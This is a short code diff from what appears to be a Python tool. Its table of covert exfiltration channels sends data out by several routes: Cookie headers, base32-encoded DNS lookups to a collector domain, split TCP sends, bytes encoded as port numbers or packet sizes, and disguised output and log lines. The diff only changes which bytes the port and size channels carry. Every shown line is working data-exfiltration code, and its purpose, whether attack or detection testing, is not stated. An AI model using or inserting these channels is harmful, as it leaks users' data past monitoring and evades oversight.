@@ -96,8 +96,8 @@ CHANNELS = {
     "query": lambda data: post(b"", {"Cookie": "id=" + data.hex()}),
     "labels": lambda data: each(lambda n, part: look_up(f"{part}.{n}.{COLLECTOR}"), cut(base64.b32encode(data).decode().strip("=").lower(), 30)),
     "connections": lambda data: each(lambda _, part: send(9000, part), cut(data, 10)),
-    "ports": lambda data: each(lambda _, byte: send(30000 + byte), data[:24]),
-    "sizes": lambda data: each(lambda _, byte: send(9000, b"x" * (byte + 1)), data[:24]),
+    "ports": lambda data: each(lambda _, byte: send(30000 + byte), data[-48:-24]),
+    "sizes": lambda data: each(lambda _, byte: send(9000, b"x" * (byte + 1)), data[-48:-24]),
     "answer": lambda data: "\nsession id: " + data.hex(),
     "log": lambda data: print("started", base64.b64encode(data).decode(), file=sys.stderr),
 }
